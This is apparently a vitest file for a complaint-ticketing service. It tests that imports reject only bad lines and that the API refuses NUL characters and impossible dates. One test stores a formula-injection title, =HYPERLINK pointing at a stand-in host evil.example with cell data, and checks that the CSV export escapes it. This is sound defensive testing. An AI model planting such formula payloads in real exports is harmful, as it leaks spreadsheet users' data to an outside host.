/**
 * Probes of issue 11, "bad input": a NUL gave 500 on the API; from=2026-13-45 gave 500; one calendar-invalid date or
 * one NUL in an import file aborted the whole file; an unterminated CSV quote silently dropped every later row; the
 * CSV export wrote =HYPERLINK(…) cells.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testApp } from './test/db.js';
import { startRoles, type Running } from './roles/index.js';
import { DEMO_PASSWORD, SYSTEM } from './modules/access/index.js';
import { importFile } from './modules/intake/index.js';
import type { Http } from './platform/http/index.js';

let app: Awaited<ReturnType<typeof testApp>>;
let http: Http;
let roles: Running;
const tok: Record<string, string> = {};
const dir = mkdtempSync(join(tmpdir(), 'xz-bad-'));

beforeAll(async () => {
  app = await testApp();
  roles = await startRoles(app, ['web', 'worker'], { scheduler: false });
  http = roles.http!;
  for (const u of ['operator', 'analyst'])
    tok[u] = (
      await http.inject({ method: 'POST', url: '/api/auth/login', payload: { username: u, password: DEMO_PASSWORD } })
    ).json().token;
});
afterAll(async () => {
  await roles.stop();
  await app.closeDb();
});

const call = (u: string | null, method: 'GET' | 'POST', url: string, payload?: unknown) =>
  http.inject({ method, url, payload: payload as never, headers: u ? { authorization: `Bearer ${tok[u]}` } : {} });

const importAll = async (file: string) => {
  const rejected: [number, string][] = [];
  const r = await importFile(app, {
    file,
    actor: SYSTEM,
    source: file,
    onRejected: (l, why) => rejected.push([l, why]),
  });
  return { ...r, rejected };
};

describe('imports keep every good line', () => {
  it('CSV: a calendar-invalid date, a NUL and an unterminated quote each cost only their own line', async () => {
    const f = join(dir, 'a.csv');
    writeFileSync(
      f,
      [
        'id,received_at,kind,text',
        'A1,2026-10-09,咨询,请问预付卡怎么退',
        'A2,2026-02-30,咨询,二月没有三十日',
        'A3,2026-10-09,咨询,含有\u0000的一行',
        'A4,2026-10-09,咨询,"引号没有闭合，后面的行不能被吞掉',
        'A5,2026-10-10,咨询,第五行照常导入',
        'A6,2026/10/11 9:30,咨询,"多行的内容',
        '第二行",',
        'A7,2026-13-45,咨询,十三月',
        'A8,2026-10-12,咨询,最后一行',
      ].join('\n'),
    );
    const r = await importAll(f);
    expect(r.imported).toBe(4);
    expect(r.rejected.map(([l]) => l)).toEqual([3, 4, 5, 9]);
    expect(r.rejected[0]![1]).toMatch(/received_at.*no such day 2026-02-30/);
    expect(r.rejected[1]![1]).toMatch(/NUL character in text/);
    expect(r.rejected[2]![1]).toMatch(/unterminated quoted field/);
    expect(r.rejected[3]![1]).toMatch(/2026-13-45/);
  });

  it('TIF and XLSX: the same rejections by line, the rest imported', async () => {
    const f = join(dir, 'b.jsonl');
    const l = (id: string, at: string, text: string) =>
      JSON.stringify({ id, kind: 'consultation', received_at: at, text });
    writeFileSync(
      f,
      [
        l('T1', '2026-10-09', '好的一行'),
        l('T2', '2026-13-45', '坏日期'),
        l('T3', '2026-10-09', 'NUL\u0000在这里'),
        l('T4', '2026-10-09T24:10', '坏时间'),
        l('T5', '2026-10-10', '又一个好行'),
      ].join('\n'),
    );
    const t = await importAll(f);
    expect(t.imported).toBe(2);
    expect(t.rejected.map(([n]) => n)).toEqual([2, 3, 4]);
    const { ExcelJS } = await import('./platform/export/index.js');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('工单');
    ws.addRow(['id', 'received_at', 'kind', 'text']);
    ws.addRow(['X1', '2026-10-12', '咨询', '好']);
    ws.addRow(['X2', '2026-02-29', '咨询', '不是闰年']);
    ws.addRow(['X3', new Date('2026-10-13T02:00:00Z'), '咨询', '日期单元格']);
    ws.addRow(['X4', '2026-10-14 25:00', '咨询', '没有二十五点']);
    ws.addRow(['X5', '2026-10-15', '咨询', '最后']);
    const x = join(dir, 'c.xlsx');
    await wb.xlsx.writeFile(x);
    const r = await importAll(x);
    expect(r.imported).toBe(3);
    expect(r.rejected.map(([n]) => n)).toEqual([3, 5]);
    // the date cell arrived as Shanghai wall-clock time (Excel stores no zone)
    const x3 = await app.db.query<{ d: string }>("SELECT received_date::text AS d FROM tickets WHERE source_id = 'X3'");
    expect(x3.rows[0]?.d).toBe('2026-10-13');
  });
});

describe('the API answers bad input with 400 and the field', () => {
  it('refuses NUL in body, query and path; strips other control characters', async () => {
    const body = await call(null, 'POST', '/api/public/tickets', { kind: 'consultation', text: '请问\u0000退货' });
    expect(body.statusCode).toBe(400);
    expect(body.json().message).toMatch(/NUL.*body\.text/);
    const q = await call('operator', 'GET', '/api/tickets?q=%00abc');
    expect(q.statusCode).toBe(400);
    expect(q.json().message).toMatch(/query\.q/);
    expect((await call('operator', 'GET', '/api/tickets/%00')).statusCode).toBe(400);
    const ok = await call(null, 'POST', '/api/public/tickets', {
      kind: 'consultation',
      title: '咨询\u0007\u001b',
      text: '请问网购七天无理由退货怎么办理',
    });
    expect(ok.statusCode).toBe(201);
    const stored = await app.db.query<{ title: string }>('SELECT title FROM tickets WHERE id = $1', [ok.json().id]);
    expect(stored.rows[0]!.title).toBe('咨询');
  });

  it('refuses impossible dates with 400 naming the field, on every date parameter', async () => {
    for (const url of [
      '/api/analytics/overview?from=2026-13-45',
      '/api/analytics/cube?dims=category&to=2026-02-30',
      '/api/analytics/tickets?from=2026-04-31',
      '/api/analytics/export.csv?purpose=核查&from=2026-13-45',
    ]) {
      const r = await call('analyst', 'GET', url);
      expect(r.statusCode, url).toBe(400);
      expect(r.json().message, url).toMatch(/from|to/);
      expect(r.json().message, url).toMatch(/日期无效/);
    }
    const c = await call('operator', 'GET', '/api/calendar?from=2026-13-45&days=3');
    expect(c.statusCode).toBe(400);
    expect(c.json().message).toMatch(/from/);
    expect((await call('operator', 'GET', '/api/calendar?from=2026-10-01&days=3')).statusCode).toBe(200);
  });
});

describe('exports', () => {
  it('neutralises formula cells in the CSV export', async () => {
    const f = await call('operator', 'POST', '/api/tickets', {
      kind: 'complaint',
      title: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
      text: '@SUM(1+1) 商家不退押金，要求退还押金500元',
      respondent: { name: '-某某公司', address: '上海市松江区岳阳街道人民北路1号' },
    });
    expect(f.statusCode).toBe(201);
    const r = await call('analyst', 'GET', '/api/analytics/export.csv?purpose=' + encodeURIComponent('公式注入核查'));
    expect(r.statusCode).toBe(200);
    const row = r.body.split('\n').find((l) => l.includes('HYPERLINK'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"`);
    expect(row).toContain("'-某某公司");
    // no cell starts with a formula character
    for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });
});
